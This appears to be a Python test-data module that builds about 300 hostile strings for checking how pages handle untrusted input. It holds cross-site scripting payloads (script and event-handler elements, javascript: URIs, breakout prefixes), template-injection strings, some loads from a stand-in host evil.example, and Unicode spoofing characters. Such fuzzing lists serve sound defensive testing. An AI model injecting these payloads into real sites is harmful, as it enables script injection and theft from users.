"""Three hundred texts that would do something on a page that took them for more than text.

Made from what is known to have worked somewhere: elements that run scripts, places that they break out of, addresses
with a scheme of their own, templates, and characters that hide or turn around what stands beside them.
"""

from __future__ import annotations

from itertools import product

_RUN = "alert(1)"
_ELEMENTS = (
    "<script>{run}</script>", "<img src=x onerror={run}>", "<svg onload={run}>", "<svg><script>{run}</script></svg>",
    "<iframe srcdoc='<script>{run}</script>'></iframe>", "<iframe src=javascript:{run}></iframe>",
    "<body onload={run}>", "<video><source onerror={run}></video>", "<audio src=x onerror={run}>",
    "<details open ontoggle={run}>", "<input autofocus onfocus={run}>", "<select autofocus onfocus={run}>",
    "<textarea autofocus onfocus={run}>", "<keygen autofocus onfocus={run}>", "<marquee onstart={run}>",
    "<object data=javascript:{run}></object>", "<embed src=javascript:{run}>", "<math href=javascript:{run}>x</math>",
    "<form action=javascript:{run}><button>x</button></form>", "<a href=javascript:{run}>x</a>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css'</style>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<img src=//evil.example/x.png>", "<script src=//evil.example/x.js></script>", "<template><script>{run}</script>",
    "<xss onpointerenter={run} style=position:fixed;inset:0>", "<a ping=//evil.example href=/>x</a>",
    "<portal src=//evil.example>",
)  # fmt: skip
_BREAKS = ("", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "*/")
_SCHEMES = (
    "javascript:{run}", "JaVaScRiPt:{run}", " javascript:{run}", "java\tscript:{run}", "java\nscript:{run}",
    "data:text/html,<script>{run}</script>", "vbscript:{run}", "//evil.example/x", "https://evil.example/x",
    "\\\\evil.example\\x",
)  # fmt: skip
_TEMPLATES = (
    "{{constructor.constructor('{run}')()}}", "${{{run}}}", "#{{{run}}}", "<%= {run} %>", "[[{run}]]", "{{7*7}}",
    "__proto__", "constructor", "toString", "hasOwnProperty",
)  # fmt: skip
_CHARACTERS = (
    "\u202egnp.exe", "\u2066x\u2069", "zero\u200bwidth", "\ufeffmark", "a\u0300\u0301\u0302" * 20,
    "\U0001f3f3\ufe0f\u200d\U0001f308", "\ud7ff\ue000", "\U0010ffff", "ﷺ" * 50, "W" * 500,
)  # fmt: skip


def _texts() -> list[str]:
    broken = [before + element for before, element in product(_BREAKS, _ELEMENTS)]
    plain = [*broken, *_SCHEMES, *_TEMPLATES, *_CHARACTERS]
    return [text.replace("{run}", _RUN) for text in plain]


HOSTILE = _texts()
